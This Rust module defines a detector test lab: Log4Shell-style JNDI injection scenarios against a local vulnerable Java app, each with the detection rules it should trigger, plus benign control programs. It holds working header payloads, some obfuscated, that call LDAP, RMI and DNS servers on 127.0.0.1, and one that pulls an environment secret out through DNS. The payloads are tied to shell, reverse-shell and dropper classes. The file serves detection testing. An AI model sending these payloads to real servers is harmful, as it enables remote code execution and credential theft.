//! The lab's scenarios, as plain data: what each one sends or runs, and what it must prove.
//! Nothing here touches a process or the network.

/// The fake AWS access key id in the vulnerable app's environment (`SECRET`), which the
/// DNS-exfiltration scenario steals.
pub const SECRET: &str = "AKIALABFAKEKEY000001";

/// The lab servers' ports (tests/lab/java/servers/LabServers.java, RogueRmiRegistry.java).
pub const LDAP_PORT: u16 = 1389;
pub const LDAP_ODD_PORT: u16 = 10389;
pub const RMI_PORT: u16 = 1099;
pub const CLASS_PORT: u16 = 8180;
pub const DNS_PORT: u16 = 5353;
pub const REVSHELL_PORT: u16 = 4444;
pub const WEB_PORT: u16 = 8280;

/// The canary file a payload writes in the vulnerable app's working directory.
pub const CANARY: &str = "pwned";

// The rule names of the interface contract (docs/contract.md).
pub const JNDI_PROBE: &str = "jndi_probe";
pub const LDAP_EGRESS: &str = "jvm_ldap_egress";
pub const RMI_EGRESS: &str = "jvm_rmi_egress";
pub const DNS_EXFIL: &str = "jvm_dns_exfil";
pub const CLASS_DOWNLOAD: &str = "jvm_class_download";
pub const SHELL_SPAWN: &str = "jvm_shell_spawn";
pub const EXPLOIT_CHAIN: &str = "exploit_chain";

/// Rules the detector may not raise yet. Without `--strict` their absence is reported as
/// MISSING but does not fail the lab; every other obligation always does. Empty: every rule
/// the lab expects has landed (issue 4), so a missing one always fails.
pub const PENDING_RULES: [&str; 0] = [];

/// The padded scenario's other headers, before the one carrying the lookup (bytes).
pub const PADDING: usize = 12 * 1024;

/// The name server of the own-resolver scenario's mount namespace (its /etc/resolv.conf),
/// on port 53; the host's resolv.conf does not name it.
pub const OWN_RESOLVER: std::net::Ipv4Addr = std::net::Ipv4Addr::new(127, 0, 0, 87);

/// The ordinary names the own-resolver scenario looks up.
pub const ORDINARY_NAMES: [&str; 2] = ["db.internal.lab", "cache.internal.lab"];

/// How a rule is written in the table.
pub fn short_rule(rule: &str) -> &str {
    match rule {
        LDAP_EGRESS => "ldap",
        RMI_EGRESS => "rmi",
        DNS_EXFIL => "dns",
        CLASS_DOWNLOAD => "class",
        SHELL_SPAWN => "shell",
        EXPLOIT_CHAIN => "chain",
        other => other,
    }
}

pub use testkit::Mode;

/// When the victim JVM starts, relative to the detector.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Start {
    /// After the detector is ready: the kernel sees its exec.
    After,
    /// Before the detector: it is found in /proc at start-up (seeded), as on a host whose
    /// services run when the detector is installed, upgraded or restarted.
    Before,
}

/// One column of the table: no detector (`none`, which proves the attacks work), or the
/// detector in one of its modes, with the victim JVM started after or before it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Column {
    pub mode: Option<Mode>,
    pub start: Start,
}

/// Every column, in the order they run and print.
pub const COLUMNS: [Column; 5] = [
    Column::new(None, Start::After),
    Column::new(Some(Mode::Monitor), Start::After),
    Column::new(Some(Mode::Monitor), Start::Before),
    Column::new(Some(Mode::Enforce), Start::After),
    Column::new(Some(Mode::Enforce), Start::Before),
];

impl Column {
    pub const fn new(mode: Option<Mode>, start: Start) -> Self {
        Self { mode, start }
    }

    /// `none`, `monitor`, `monitor, JVM first`...: the table's header.
    pub fn name(self) -> String {
        let mode = self.mode.map_or("none", Mode::as_str);
        match self.start {
            Start::After => mode.to_owned(),
            Start::Before => format!("{mode}, JVM first"),
        }
    }

    /// `none`, `monitor`, `monitor-jvm-first`: for directories and cgroups.
    pub fn slug(self) -> String {
        self.name()
            .replace(", ", "-")
            .replace(' ', "-")
            .to_lowercase()
    }

    /// Whether `scenario` runs in this column: a JVM started before the detector is a
    /// victim waiting for its attack; benign programs run only after the detector.
    pub fn runs(self, scenario: &Scenario) -> bool {
        self.start == Start::After || matches!(scenario.kind, Kind::Attack(_))
    }
}

/// One row of the table.
#[derive(Debug)]
pub struct Scenario {
    /// Unique, for `--scenario`, the cgroup and the run directory.
    pub name: &'static str,
    /// What it does, for the table (short).
    pub what: &'static str,
    pub kind: Kind,
}

#[derive(Debug)]
pub enum Kind {
    Attack(Attack),
    Benign(Benign),
}

/// An HTTP request to the vulnerable app whose logging performs a JNDI lookup.
#[derive(Debug)]
pub struct Attack {
    /// Request target (path and query), sent as is.
    pub target: &'static str,
    /// A header carrying the payload, if the target does not.
    pub header: Option<(&'static str, &'static str)>,
    pub lookup: Lookup,
    /// The class the rogue server hands out; `None` when the lookup itself is the attack.
    pub payload: Option<Payload>,
    pub variant: Variant,
}

/// What sets an attack apart beyond its request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Variant {
    Plain,
    /// The victim runs behind a jpackage app image's native launcher (`bin/labapp`, the JVM
    /// embedded in it), not a binary named `java`.
    Jpackage,
    /// [`PADDING`] bytes of other headers come before the one carrying the lookup.
    Padded,
    /// The detector also records (`run --record`); `detector replay` of the recording must
    /// raise the alerts the run raised.
    Replayed,
}

/// Where the JNDI lookup goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lookup {
    Ldap { port: u16 },
    Rmi,
    Dns,
}

impl Lookup {
    /// The lab server that answers the lookup, as named in its event lines.
    pub fn server(self) -> String {
        match self {
            Lookup::Ldap { port } => format!("ldap:{port}"),
            Lookup::Rmi => format!("rmi:{RMI_PORT}"),
            Lookup::Dns => format!("dns:{DNS_PORT}"),
        }
    }

    /// The event that proves the lookup reached that server: a TCP accept, or a DNS query.
    pub fn contact_kind(self) -> &'static str {
        match self {
            Lookup::Ldap { .. } | Lookup::Rmi => "accept",
            Lookup::Dns => "query",
        }
    }

    /// The egress rule the lookup raises.
    pub fn rule(self) -> &'static str {
        match self {
            Lookup::Ldap { .. } => LDAP_EGRESS,
            Lookup::Rmi => RMI_EGRESS,
            Lookup::Dns => DNS_EXFIL,
        }
    }
}

/// The payload classes in tests/lab/java/payload/.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Payload {
    Shell,
    Curl,
    ReverseShell,
    Python,
    Dropper,
}

impl Payload {
    pub fn class(self) -> &'static str {
        match self {
            Payload::Shell => "LabShell",
            Payload::Curl => "LabCurl",
            Payload::ReverseShell => "LabReverseShell",
            Payload::Python => "LabPython",
            Payload::Dropper => "LabDropper",
        }
    }
}

impl Attack {
    /// The rules monitor mode must raise, in the order of the attack.
    pub fn expected_rules(&self) -> Vec<&'static str> {
        let mut rules = vec![JNDI_PROBE, self.lookup.rule()];
        if self.payload.is_some() {
            rules.extend([CLASS_DOWNLOAD, SHELL_SPAWN]);
        }
        rules.push(EXPLOIT_CHAIN);
        rules
    }
}

/// Ordinary programs in the victim's cgroup that must not raise anything high or critical.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Benign {
    /// `LabHttpClient`: a JVM doing `GET http://127.0.0.1:8280/`.
    HttpClient,
    /// `LabDirectoryClient`: a JVM binding to and searching the allowlisted directory.
    Directory,
    /// `javac` compiling a file.
    Javac,
    /// `LabHelperRunner`: a JVM running its allowlisted `/bin/sh` helper.
    Helper,
    /// `ldap_and_shell.py`: python (no JVM) doing LDAP and running sh.
    PythonLdapShell,
    /// `LabResolverClient` in a mount namespace of its own whose /etc/resolv.conf names
    /// [`OWN_RESOLVER`]: ordinary lookups through the container's resolver.
    OwnResolver,
}

pub static SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "ldap-shell",
        what: "User-Agent ${jndi:ldap://…:1389/…} → sh -c",
        kind: Kind::Attack(Attack {
            target: "/",
            header: Some(("User-Agent", "${jndi:ldap://127.0.0.1:1389/LabShell}")),
            lookup: Lookup::Ldap { port: LDAP_PORT },
            payload: Some(Payload::Shell),
            variant: Variant::Plain,
        }),
    },
    Scenario {
        name: "ldap-curl",
        what: "${${lower:j}ndi:${lower:l}dap:…} → curl",
        kind: Kind::Attack(Attack {
            target: "/api/items",
            header: Some((
                "X-Api-Version",
                "${${lower:j}ndi:${lower:l}dap://127.0.0.1:1389/LabCurl}",
            )),
            lookup: Lookup::Ldap { port: LDAP_PORT },
            payload: Some(Payload::Curl),
            variant: Variant::Plain,
        }),
    },
    Scenario {
        name: "ldap-revshell",
        what: "${${::-j}${::-n}${::-d}${::-i}:ldap…} → bash reverse shell",
        kind: Kind::Attack(Attack {
            target: "/login",
            header: Some((
                "User-Agent",
                "${${::-j}${::-n}${::-d}${::-i}:ldap://127.0.0.1:1389/LabReverseShell}",
            )),
            lookup: Lookup::Ldap { port: LDAP_PORT },
            payload: Some(Payload::ReverseShell),
            variant: Variant::Plain,
        }),
    },
    Scenario {
        name: "ldap-python",
        what: "URL-encoded in the query string → python3 -c",
        kind: Kind::Attack(Attack {
            target: "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F127.0.0.1%3A1389%2FLabPython%7D",
            header: None,
            lookup: Lookup::Ldap { port: LDAP_PORT },
            payload: Some(Payload::Python),
            variant: Variant::Plain,
        }),
    },
    Scenario {
        name: "ldap-dropper",
        what: "Referer ${jNdI:ldap:…} → binary dropped in /tmp",
        kind: Kind::Attack(Attack {
            target: "/",
            header: Some(("Referer", "${jNdI:ldap://127.0.0.1:1389/LabDropper}")),
            lookup: Lookup::Ldap { port: LDAP_PORT },
            payload: Some(Payload::Dropper),
            variant: Variant::Plain,
        }),
    },
    Scenario {
        name: "ldap-odd-port",
        what: "${${env:NaN:-j}ndi:ldap://…:10389/…} → sh -c",
        kind: Kind::Attack(Attack {
            target: "/",
            header: Some((
                "X-Forwarded-For",
                "${${env:NaN:-j}ndi:ldap://127.0.0.1:10389/LabShell}",
            )),
            lookup: Lookup::Ldap {
                port: LDAP_ODD_PORT,
            },
            payload: Some(Payload::Shell),
            variant: Variant::Plain,
        }),
    },
    Scenario {
        name: "rmi-shell",
        what: "${jndi:rmi://…:1099/…} (RMI registry) → sh -c",
        kind: Kind::Attack(Attack {
            target: "/",
            header: Some(("User-Agent", "${jndi:rmi://127.0.0.1:1099/LabShell}")),
            lookup: Lookup::Rmi,
            payload: Some(Payload::Shell),
            variant: Variant::Plain,
        }),
    },
    Scenario {
        name: "dns-exfil",
        what: "${jndi:dns://…:5353/${env:SECRET}.exfil.lab}",
        kind: Kind::Attack(Attack {
            target: "/",
            header: Some((
                "User-Agent",
                "${jndi:dns://127.0.0.1:5353/${env:SECRET}.exfil.lab}",
            )),
            lookup: Lookup::Dns,
            payload: None,
            variant: Variant::Plain,
        }),
    },
    Scenario {
        name: "jpackage-shell",
        what: "victim behind a jpackage launcher (bin/labapp) → sh -c",
        kind: Kind::Attack(Attack {
            target: "/",
            header: Some(("User-Agent", "${jndi:ldap://127.0.0.1:1389/LabShell}")),
            lookup: Lookup::Ldap { port: LDAP_PORT },
            payload: Some(Payload::Shell),
            variant: Variant::Jpackage,
        }),
    },
    Scenario {
        name: "padded-shell",
        what: "lookup after 12 KiB of other headers → sh -c",
        kind: Kind::Attack(Attack {
            target: "/",
            header: Some(("X-Request-Trace", "${jndi:ldap://127.0.0.1:1389/LabShell}")),
            lookup: Lookup::Ldap { port: LDAP_PORT },
            payload: Some(Payload::Shell),
            variant: Variant::Padded,
        }),
    },
    Scenario {
        name: "replay-curl",
        what: "run --record, then replay: the same alerts",
        kind: Kind::Attack(Attack {
            target: "/api/items",
            header: Some(("User-Agent", "${jndi:ldap://127.0.0.1:1389/LabCurl}")),
            lookup: Lookup::Ldap { port: LDAP_PORT },
            payload: Some(Payload::Curl),
            variant: Variant::Replayed,
        }),
    },
    Scenario {
        name: "benign-http-client",
        what: "JVM: GET to a local web service (allowlisted)",
        kind: Kind::Benign(Benign::HttpClient),
    },
    Scenario {
        name: "benign-directory",
        what: "JVM: LDAP bind+search, allowlisted directory",
        kind: Kind::Benign(Benign::Directory),
    },
    Scenario {
        name: "benign-javac",
        what: "javac compiles a file",
        kind: Kind::Benign(Benign::Javac),
    },
    Scenario {
        name: "benign-helper",
        what: "JVM runs its allowlisted /bin/sh helper",
        kind: Kind::Benign(Benign::Helper),
    },
    Scenario {
        name: "benign-python",
        what: "python (no JVM): LDAP bind+search, then sh",
        kind: Kind::Benign(Benign::PythonLdapShell),
    },
    Scenario {
        name: "benign-own-resolver",
        what: "JVM with its own resolv.conf (mount ns): lookups",
        kind: Kind::Benign(Benign::OwnResolver),
    },
];

/// The scenario called `name`.
pub fn find(name: &str) -> Option<&'static Scenario> {
    SCENARIOS.iter().find(|s| s.name == name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_unique_and_cgroup_safe() {
        for (i, a) in SCENARIOS.iter().enumerate() {
            assert!(
                a.name
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'),
                "{}",
                a.name
            );
            assert!(SCENARIOS[i + 1..].iter().all(|b| b.name != a.name));
        }
        assert!(find("ldap-shell").is_some());
        assert!(find("nope").is_none());
    }

    #[test]
    fn every_payload_and_lookup_is_exercised() {
        let attacks: Vec<&Attack> = SCENARIOS
            .iter()
            .filter_map(|s| match &s.kind {
                Kind::Attack(a) => Some(a),
                Kind::Benign(_) => None,
            })
            .collect();
        for payload in [
            Payload::Shell,
            Payload::Curl,
            Payload::ReverseShell,
            Payload::Python,
            Payload::Dropper,
        ] {
            assert!(
                attacks.iter().any(|a| a.payload == Some(payload)),
                "{payload:?}"
            );
        }
        for lookup in [
            Lookup::Ldap { port: LDAP_PORT },
            Lookup::Ldap {
                port: LDAP_ODD_PORT,
            },
            Lookup::Rmi,
            Lookup::Dns,
        ] {
            assert!(attacks.iter().any(|a| a.lookup == lookup), "{lookup:?}");
        }
    }

    #[test]
    fn every_attack_names_its_payload_class_and_port() {
        for scenario in SCENARIOS {
            let Kind::Attack(attack) = &scenario.kind else {
                continue;
            };
            let text = match attack.header {
                Some((_, value)) => value.to_owned(),
                None => attack.target.replace("%3A", ":").replace("%2F", "/"),
            };
            if let Some(payload) = attack.payload {
                assert!(text.contains(payload.class()), "{}", scenario.name);
            }
            let port = match attack.lookup {
                Lookup::Ldap { port } => port,
                Lookup::Rmi => RMI_PORT,
                Lookup::Dns => DNS_PORT,
            };
            assert!(text.contains(&format!(":{port}/")), "{}", scenario.name);
        }
    }

    #[test]
    fn every_variant_is_exercised_and_columns_are_named() {
        for variant in [
            Variant::Plain,
            Variant::Jpackage,
            Variant::Padded,
            Variant::Replayed,
        ] {
            assert!(
                SCENARIOS
                    .iter()
                    .any(|s| matches!(&s.kind, Kind::Attack(a) if a.variant == variant)),
                "{variant:?}"
            );
        }
        let names: Vec<String> = COLUMNS.iter().map(|c| c.slug()).collect();
        assert_eq!(
            names,
            [
                "none",
                "monitor",
                "monitor-jvm-first",
                "enforce",
                "enforce-jvm-first"
            ]
        );
        let benign = find("benign-javac").expect("a benign scenario");
        let attack = find("ldap-shell").expect("an attack");
        assert!(COLUMNS.iter().all(|c| c.runs(attack)));
        assert_eq!(COLUMNS.iter().filter(|c| c.runs(benign)).count(), 3);
    }

    #[test]
    fn expected_rules_follow_the_attack() {
        let ldap = Attack {
            target: "/",
            header: None,
            lookup: Lookup::Ldap { port: LDAP_PORT },
            payload: Some(Payload::Shell),
            variant: Variant::Plain,
        };
        assert_eq!(
            ldap.expected_rules(),
            [
                JNDI_PROBE,
                LDAP_EGRESS,
                CLASS_DOWNLOAD,
                SHELL_SPAWN,
                EXPLOIT_CHAIN
            ]
        );
        let dns = Attack {
            target: "/",
            header: None,
            lookup: Lookup::Dns,
            payload: None,
            variant: Variant::Plain,
        };
        assert_eq!(dns.expected_rules(), [JNDI_PROBE, DNS_EXFIL, EXPLOIT_CHAIN]);
        let short: Vec<&str> = ldap.expected_rules().into_iter().map(short_rule).collect();
        assert_eq!(short, ["jndi_probe", "ldap", "class", "shell", "chain"]);
    }
}
